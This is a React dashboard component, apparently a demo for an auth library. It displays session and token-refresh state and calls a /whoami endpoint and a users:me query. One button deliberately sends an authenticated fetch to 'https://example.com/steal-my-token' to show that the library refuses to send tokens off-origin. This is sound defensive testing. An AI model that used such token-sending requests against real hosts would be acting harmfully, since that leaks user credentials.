"use client";
import { useEffect, useRef, useState } from "react";
import type { ConvexAuthError } from "convex-auth-wasm/client";
import { useSession } from "./session";

type Refresh = { at: string; expiresAt: number };

export function Dashboard() {
  const { session, mode, state } = useSession();
  const [identity, setIdentity] = useState<unknown>(null);
  const [me, setMe] = useState<unknown>(null);
  const [foreign, setForeign] = useState<string | null>(null);
  const [refreshes, setRefreshes] = useState<Refresh[]>([]);
  const [now, setNow] = useState(() => Date.now());
  const lastExp = useRef<number | null>(null);

  useEffect(() => {
    const timer = setInterval(() => setNow(Date.now()), 1000);
    return () => clearInterval(timer);
  }, []);

  useEffect(() => {
    if (state.expiresAt && state.expiresAt !== lastExp.current) {
      lastExp.current = state.expiresAt;
      setRefreshes((list) => [...list, { at: new Date().toLocaleTimeString(), expiresAt: state.expiresAt! }]);
    }
  }, [state.expiresAt]);

  async function whoami() {
    try {
      const res = await session!.fetch("/whoami", {});
      setIdentity({ status: res.status, body: await res.json() });
    } catch (e) {
      setIdentity({ error: (e as ConvexAuthError).code, message: (e as Error).message });
    }
  }

  useEffect(() => {
    if (!session || !state.isAuthenticated) return;
    void whoami();
    session.query("users:me", {}).then(setMe, (e: ConvexAuthError) => setMe({ error: e.code }));
    // eslint-disable-next-line react-hooks/exhaustive-deps
  }, [session, state.isAuthenticated]);

  async function tryForeign() {
    try {
      await session!.fetch("https://example.com/steal-my-token", {});
      setForeign("sent?!");
    } catch (e) {
      setForeign(`${(e as ConvexAuthError).code}: ${(e as Error).message}`);
    }
  }

  async function signOut() {
    await session!.signOut();
    location.href = "/";
  }

  if (state.isLoading) return <p id="loading">Loading session…</p>;
  if (!state.isAuthenticated) return <p id="signed-out">Signed out. <a href="/">Sign in</a></p>;
  const left = state.expiresAt ? Math.max(0, Math.round(state.expiresAt - now / 1000)) : null;
  return (
    <>
      <section>
        <p>
          Signed in (<strong>{mode}</strong> mode) as user <code id="user-id">{state.userId}</code>, session{" "}
          <code>{state.sessionId}</code>
        </p>
        <p>
          Token expires in <strong id="expires-in">{left}</strong> s{state.isRefreshing ? " — refreshing…" : ""}
          {state.refreshFailures > 0 && (
            <span className="error" id="refresh-failures">
              {" "}— {state.refreshFailures} failed refresh(es), retrying ({state.lastError?.code}); still signed in
            </span>
          )}
        </p>
        <button onClick={signOut} id="sign-out">Sign out</button>
      </section>
      <section>
        <h2>HTTP action <code>/whoami</code> on the site origin</h2>
        <button onClick={whoami}>Call again</button>
        <pre id="whoami">{JSON.stringify(identity, null, 2)}</pre>
        <h2>Query <code>users:me</code> over the HTTP API</h2>
        <pre id="me">{JSON.stringify(me, null, 2)}</pre>
      </section>
      <section>
        <h2>Token refreshes</h2>
        <ol id="refreshes">
          {refreshes.map((r, i) => (
            <li key={i}>{r.at}: new token, exp {r.expiresAt}</li>
          ))}
        </ol>
      </section>
      <section>
        <h2>Foreign origin</h2>
        <p className="muted">The authed fetch only ever sends the token to the deployment&apos;s site origin.</p>
        <button onClick={tryForeign} id="try-foreign">fetch(&quot;https://example.com/steal-my-token&quot;)</button>
        {foreign && <p className="error" id="foreign">{foreign}</p>}
      </section>
    </>
  );
}
